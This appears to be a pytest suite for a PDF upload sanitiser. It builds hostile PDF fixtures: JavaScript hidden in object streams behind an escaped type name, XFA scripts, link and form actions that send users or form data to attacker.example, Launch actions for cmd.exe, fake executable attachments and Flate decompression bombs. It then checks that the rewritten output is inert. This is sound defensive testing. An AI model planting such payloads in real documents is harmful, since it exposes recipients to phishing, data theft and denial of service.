"""PDF uploads are parsed and rewritten without active content (scripts, actions, embedded files,
XFA); encrypted and unreadable PDFs are refused.

Each hostile file is run through ``inspect_and_sanitise`` and the OUTPUT is opened again and
walked object by object: nothing that runs or reaches outside the document may remain.
"""

from __future__ import annotations

import io
import resource
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from api.documents.inspection import Rejection, Sanitised, inspect_and_sanitise

MB = 1024 * 1024
LIMIT = 10 * MB

FORBIDDEN_KEYS = {
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/EmbeddedFiles",
    "/EF",
    "/AF",
    "/XFA",
    "/Launch",
}
FORBIDDEN_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/ImportData",
    "/ResetForm",
    "/GoToR",
    "/GoToE",
    "/Rendition",
    "/Sound",
    "/Movie",
}
FORBIDDEN_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/3D", "/Sound", "/Movie", "/Screen"}


# --- building PDFs ----------------------------------------------------------------------------


def flate_repeat(block: bytes, count: int, prefix: bytes = b"") -> bytes:
    """zlib data for ``prefix`` followed by ``count`` copies of ``block``, built without
    compressing them all: a full flush makes each copy's compressed form independent."""
    packer = zlib.compressobj(9)
    first = packer.compress(prefix + block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush()[:-4]  # the final block, without the checksum of what it saw
    checksum = zlib.adler32(prefix)
    for _ in range(count):
        checksum = zlib.adler32(block, checksum)
    return first + again * (count - 1) + end + checksum.to_bytes(4, "big")


def with_xref_stream(
    objects: list[bytes],
    packed: list[bytes] = (),  # type: ignore[assignment]
    objstm_dict: bytes = b"/Type /ObjStm",
    objstm_padding_mb: int = 0,
) -> bytes:
    """A PDF 1.5 file: ``objects`` are numbered 1..n (1 is the catalog), ``packed`` live in one
    object stream (numbered after it) whose dictionary starts with ``objstm_dict``, and a
    cross-reference stream points at all of them, as real files written since 2003 do. The
    object stream can be padded with megabytes of spaces (a decompression bomb)."""
    n = len(objects)
    objstm_number = n + 1
    packed_numbers = list(range(n + 2, n + 2 + len(packed)))
    xref_number = n + 2 + len(packed)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if packed:
        header = bytearray()
        bodies = bytearray()
        for number, body in zip(packed_numbers, packed, strict=True):
            header += b"%d %d " % (number, len(bodies))
            bodies += body + b"\n"
        content = flate_repeat(b" " * MB, objstm_padding_mb, bytes(header) + bytes(bodies))
        if not objstm_padding_mb:
            content = zlib.compress(bytes(header) + bytes(bodies))
        offsets[objstm_number] = len(out)
        out += (
            b"%d 0 obj\n<< " % objstm_number
            + objstm_dict
            + b" /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(packed), len(header), len(content))
            + content
            + b"\nendstream\nendobj\n"
        )
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    for number in range(1, xref_number + 1):
        if number in packed_numbers:
            rows += (
                b"\x02"
                + objstm_number.to_bytes(4, "big")
                + b"%c%c"
                % (
                    0,
                    packed_numbers.index(number),
                )
            )
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00\x00\x00\x00\x00\x00\x00"
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + bytes(rows)
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + extra + b">>"


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def one_page() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    return pdf


def link(pdf: pikepdf.Pdf, action: Dictionary) -> Dictionary:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return annotation


# --- checking the output ----------------------------------------------------------------------


def clean_output(data: bytes) -> bytes:
    result = inspect_and_sanitise(data, "application/pdf", max_bytes=LIMIT)
    assert isinstance(result, Sanitised), result
    assert result.reencoded and result.content_type == "application/pdf"
    assert result.size == len(result.data)
    assert result.data.startswith(b"%PDF-")
    assert result.data.rstrip(b"\r\n").endswith(b"%%EOF")
    assert_inert(result.data)
    return result.data


def walk(pdf: pikepdf.Pdf) -> list[Dictionary | Stream | Array]:
    """Every dictionary, stream and array of the file, indirect and nested."""
    found: list[Dictionary | Stream | Array] = []
    with pikepdf.explicit_conversion():
        stack: list[object] = [pdf.trailer, *pdf.objects]
        while stack:
            obj = stack.pop()
            if isinstance(obj, Dictionary | Stream):
                found.append(obj)
                keys = list(obj.keys())
                stack.extend(obj[key] for key in keys if not obj[key].is_indirect)
            elif isinstance(obj, Array):
                found.append(obj)
                stack.extend(item for item in obj if not item.is_indirect)
    return found


def assert_inert(data: bytes) -> None:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert not pdf.is_encrypted
        for obj in walk(pdf):
            if isinstance(obj, Array):
                continue
            keys = set(obj.keys())
            assert not keys & FORBIDDEN_KEYS, keys & FORBIDDEN_KEYS
            assert str(obj.get("/S", "")) not in FORBIDDEN_ACTIONS, obj
            assert str(obj.get("/Subtype", "")) not in FORBIDDEN_ANNOTATIONS, obj
        # Every stream decoded, no object streams: no script source anywhere in the bytes.
        plain = saved(
            pdf,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        ).lower()
    for needle in (b"javascript", b"<script", b"app.alert", b"launch", b"submitform"):
        assert needle not in plain, needle


def refused(data: bytes) -> str:
    result = inspect_and_sanitise(data, "application/pdf", max_bytes=LIMIT)
    assert isinstance(result, Rejection), result
    return result.reason


# --- what the outside probe got through -------------------------------------------------------


def test_javascript_in_an_object_stream_with_an_escaped_type_name() -> None:
    # /Obj#53tm is a legal spelling of /ObjStm; the action inside it runs on open and on a click.
    action = b"<< /S /JavaScript /JS (app.alert('xss')) >>"
    data = with_xref_stream(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", PAGES, page(b"/Annots [7 0 R]")],
        packed=[b"<< /Type /Action >>", action, b"<< /Type /Annot /Subtype /Link /A 6 0 R >>"],
        objstm_dict=b"/Type/Obj#53tm",
    )
    assert b"JavaScript" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:  # the fixture really hides a script
        assert str(pdf.Root.OpenAction.S) == "/JavaScript"
    output = clean_output(data)
    with pikepdf.open(io.BytesIO(output)) as pdf:
        assert len(pdf.pages) == 1
        assert "/A" not in pdf.pages[0].obj.Annots[0]


def test_javascript_in_an_object_stream_whose_dictionary_is_padded() -> None:
    padding = b"/Padding [" + b"/obj " * 1200 + b"] "  # 6 KB of dictionary before 'stream'
    data = with_xref_stream(
        [CATALOG, PAGES, page(b"/Annots [6 0 R]")],
        packed=[b"<< /S /JavaScript /JS (app.alert(1)) >>", b"<< /Subtype /Link /A 5 0 R >>"],
        objstm_dict=b"/Type /ObjStm " + padding,
    )
    clean_output(data)


def test_xfa_script_in_a_flate_stream() -> None:
    pdf = one_page()
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity='
        b'"initialize"><script contentType="application/x-javascript">app.alert(1)</script>'
        b"</event></subform></template></xdp:xdp>"
    )
    stream = pdf.make_stream(zlib.compress(xfa))
    stream.Filter = Name.FlateDecode
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=stream)
    pdf.Root.NeedsRendering = True
    output = clean_output(saved(pdf))
    with pikepdf.open(io.BytesIO(output)) as cleaned:
        assert "/XFA" not in cleaned.Root.AcroForm


@pytest.mark.parametrize(
    "action",
    [
        Dictionary(S=Name.URI, URI=pikepdf.String("https://attacker.example/phish")),
        Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://attacker.example/collect")),
        Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe")),
        Dictionary(S=Name.ImportData, F=pikepdf.String("data.fdf")),
        Dictionary(S=Name.GoToR, F=pikepdf.String("other.pdf"), D=Array([0, Name.Fit])),
        # A harmless first action chained to a forbidden one.
        Dictionary(
            S=Name.Named,
            N=Name.NextPage,
            Next=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
        ),
    ],
)
def test_link_actions_that_reach_outside_are_removed(action: Dictionary) -> None:
    pdf = one_page()
    link(pdf, action)
    clean_output(saved(pdf))


def test_form_field_submit_and_keystroke_script_are_removed() -> None:
    pdf = one_page()
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=pikepdf.String("name"),
            Rect=Array([0, 0, 100, 20]),
            A=Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://attacker.example")),
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    output = clean_output(saved(pdf))
    with pikepdf.open(io.BytesIO(output)) as cleaned:
        assert str(cleaned.Root.AcroForm.Fields[0].T) == "name"  # the form itself stays


def test_html_around_and_inside_a_pdf() -> None:
    # Markup between the objects and after a comment sign: no viewer reads it, and the rewrite
    # does not copy it.
    base = with_xref_stream([CATALOG, PAGES, page()])
    header_end = base.index(b"1 0 obj")
    data = (
        base[:header_end]
        + b"%<html><body><script>fetch('//attacker.example')</script></body></html>\n"
        + base[header_end:]
    )
    # The offsets are now wrong: qpdf recovers the structure from the objects themselves.
    output = clean_output(data)
    assert b"<html" not in output.lower() and b"<script" not in output.lower()


# --- the other active content named in the brief ------------------------------------------------


def test_open_action_javascript() -> None:
    pdf = one_page()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array(
                [
                    pikepdf.String("init"),
                    pdf.make_indirect(
                        Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(2)"))
                    ),
                ]
            )
        )
    )
    clean_output(saved(pdf))


def test_additional_actions_on_a_page() -> None:
    pdf = one_page()
    pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('page open')")),
        C=Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe")),
    )
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=pikepdf.String("x()")))
    output = clean_output(saved(pdf))
    with pikepdf.open(io.BytesIO(output)) as cleaned:
        assert "/AA" not in cleaned.pages[0].obj


def test_embedded_file_and_file_attachment_annotation() -> None:
    pdf = one_page()
    payload = b"MZ\x90\x00 this would be a Windows program"
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, payload)
    spec = pikepdf.AttachedFileSpec(pdf, payload, filename="readme.exe")
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([0, 0, 20, 20]),
                    FS=spec.obj,
                )
            )
        ]
    )
    pdf.Root.AF = Array([spec.obj])
    data = saved(pdf)
    with pikepdf.open(io.BytesIO(data)) as check:
        assert len(check.attachments) == 1
    output = clean_output(data)
    assert b"Windows program" not in output
    with pikepdf.open(io.BytesIO(output)) as cleaned:
        assert len(cleaned.attachments) == 0
        assert len(cleaned.pages[0].obj.get("/Annots", Array())) == 0


def test_rich_media_and_3d_annotations() -> None:
    pdf = one_page()
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.RichMedia,
                    Rect=Array([0, 0, 20, 20]),
                    RichMediaContent=Dictionary(Assets=Dictionary()),
                )
            ),
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([0, 0, 20, 20]))
            ),
        ]
    )
    clean_output(saved(pdf))


# --- refused ------------------------------------------------------------------------------------


def test_encrypted_pdf_is_refused_even_with_an_empty_password() -> None:
    pdf = one_page()
    data = saved(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user=""))
    with pikepdf.open(io.BytesIO(data)) as opened:  # anyone can open it...
        assert opened.is_encrypted
    assert refused(data) == "encrypted_pdf"  # ...but we cannot vouch for it
    protected = saved(one_page(), encryption=pikepdf.Encryption(owner="o", user="u"))
    assert refused(protected) == "encrypted_pdf"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    ],
)
def test_garbage_pdf_is_refused(data: bytes) -> None:
    assert refused(data) == "corrupt_image"


def test_too_many_pages_is_refused() -> None:
    pdf = pikepdf.new()
    for _ in range(201):
        pdf.add_blank_page()
    assert refused(saved(pdf)) == "too_large"


# --- bounded work -------------------------------------------------------------------------------


def peak_rss_growth(work: Callable[[], object]) -> int:
    """How far the process's peak RSS rose while ``work`` ran (only a rise above the earlier
    peak shows, so this is a lower bound; the bounds below are far above normal use)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    work()
    return (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024


def inspected(data: bytes) -> tuple[Sanitised | Rejection, int]:
    results: list[Sanitised | Rejection] = []
    growth = peak_rss_growth(
        lambda: results.append(inspect_and_sanitise(data, "application/pdf", max_bytes=LIMIT))
    )
    return results[0], growth


def test_decompression_bomb_content_stream_is_not_inflated() -> None:
    # 1 GB of zeros in a 1 MB Flate stream: copied as it is, never decoded.
    pdf = one_page()
    bomb = pdf.make_stream(flate_repeat(bytes(MB), 1024))
    bomb.Filter = Name.FlateDecode
    pdf.pages[0].obj.Contents = bomb
    data = saved(pdf)
    assert len(data) < LIMIT
    result, growth = inspected(data)
    assert isinstance(result, Sanitised)
    assert result.size < 2 * len(data)
    assert growth < 100 * MB


def test_decompression_bomb_object_stream_is_refused() -> None:
    # An object stream that inflates to 1 GB: qpdf gives up at its Flate limit.
    data = with_xref_stream(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, page()],
        packed=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
        objstm_padding_mb=1024,
    )
    assert len(data) < 2 * MB
    result, growth = inspected(data)
    assert growth < 100 * MB
    assert isinstance(result, Rejection), result
    assert result.reason == "corrupt_image"
    # The same file with a small object stream is fine (so the refusal is the bomb's).
    clean_output(
        with_xref_stream(
            [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, page()],
            packed=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
            objstm_padding_mb=1,
        )
    )


# --- ordinary PDFs still work -------------------------------------------------------------------


def test_normal_pdf_with_text_and_an_image_page_keeps_its_pages() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=font))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 720 Td (Don de nghi) Tj ET")
    scan = io.BytesIO()
    Image.new("RGB", (120, 160), (240, 240, 230)).save(scan, format="PDF")
    with pikepdf.open(io.BytesIO(scan.getvalue())) as image_pdf:
        pdf.pages.extend(image_pdf.pages)
    # An ordinary internal link survives.
    link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
    data = saved(pdf)

    output = clean_output(data)
    with pikepdf.open(io.BytesIO(output)) as cleaned:
        assert len(cleaned.pages) == 2
        assert b"Don de nghi" in cleaned.pages[0].Contents.read_bytes()
        images = list(cleaned.pages[1].images.values())
        assert len(images) == 1 and images[0].Width == 120
        assert str(cleaned.pages[0].obj.Annots[0].A.S) == "/GoTo"
